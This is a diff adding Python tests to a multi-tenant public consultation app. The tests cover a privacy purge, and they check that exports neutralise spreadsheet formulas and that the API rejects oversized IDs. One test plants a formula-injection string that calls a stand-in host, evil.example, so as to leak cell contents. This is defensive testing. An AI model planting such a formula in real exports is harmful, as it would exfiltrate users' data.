@@ -109,6 +109,14 @@ def test_privacy_purge_erases_contacts_but_keeps_comments_and_answers(demo, runn
         assert kept.contact == "13800001111"  # the consultation is still open
     again = runner.invoke(args=["privacy", "purge", "--before", before])
     assert "没有需要删除的个人信息" in again.output
+    with demo.app_context(), tenant_scope(tenant_by_slug("baishui")):  # entered after a purge: erased next time
+        late = services.add_offline_comment(SYSTEM, db.session.get(Consultation, old),
+                                            {"source": "phone", "contact": "13700003333", "content": "来电：同意。"})
+        db.session.commit()
+        late_id = late.id
+    assert "删除 1 条" in runner.invoke(args=["privacy", "purge", "--before", before]).output
+    with demo.app_context(), tenant_scope(tenant_by_slug("baishui")):
+        assert db.session.get(services.Comment, late_id).contact == ""
 
 
 def test_editor_api_lifecycle(demo, client, runner):
@@ -148,3 +156,22 @@ def test_editor_api_lifecycle(demo, client, runner):
     spec = client.get("/api/v1/openapi.json").get_json()
     assert "/api/v1/tenants/{tenant_slug}/opinions/consultations/{consultation_id}/comments" in spec["paths"]
     assert spec["paths"]["/api/v1/tenants/{tenant_slug}/opinions/comments/{comment_id}/disposition"]["put"]["security"]
+
+
+def test_exports_never_run_formulas_and_huge_ids_are_refused(demo, client, auth, runner):
+    with demo.app_context():
+        cid = make_consultation()
+        comment("baishui", cid, content='=HYPERLINK("http://evil.example/?"&A1,"点击查看")')
+    auth.login("li")
+    wb = openpyxl.load_workbook(io.BytesIO(client.get(f"/admin/baishui/opinions/{cid}/export.xlsx").data))
+    cell = wb.active["H2"]
+    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")
+    csv_text = client.get(f"/admin/baishui/opinions/{cid}/export.csv").get_data(as_text=True)
+    assert "'=HYPERLINK" in csv_text
+    token = {"Authorization": "Bearer " + runner.invoke(args=["users", "token", "li"]).output.strip().splitlines()[-1]}
+    for url, body in ((f"/api/v1/tenants/baishui/opinions/consultations/{cid}/groups",
+                       {"title": "甲", "comment_ids": [2**70, 1], "disposition": "adopted"}),
+                      (f"/api/v1/tenants/baishui/opinions/consultations/{cid}/comments",
+                       {"content": "建议增加停车位。", "consent": True, "article_id": 2**70})):
+        response = client.post(url, headers=token, json=body)
+        assert response.status_code == 400, response.get_json()
